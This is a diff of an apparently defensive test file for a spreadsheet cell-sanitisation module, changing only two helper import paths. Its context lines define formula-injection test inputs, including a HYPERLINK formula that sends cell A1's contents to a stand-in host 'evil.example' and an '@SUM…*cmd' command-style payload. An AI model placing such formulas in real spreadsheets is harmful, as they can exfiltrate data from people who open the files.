@@ -9,8 +9,8 @@ import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { safeCell, safeRow } from '../../src/reports/cell-safety.js';
 import { generateDemoChat } from '../../src/demo/generate-chat.js';
-import { BACKENDS, makeWorkspace, type Workspace } from '../helpers/cli.js';
-import { tempDir } from '../device/helpers.js';
+import { BACKENDS, makeWorkspace, type Workspace } from '../support/cli.js';
+import { tempDir } from '../support/device.js';
 
 const HOSTILE = '=HYPERLINK("evil.example?"&A1,"Click")';
 const TERM = '@SUM(1+1)*cmd';
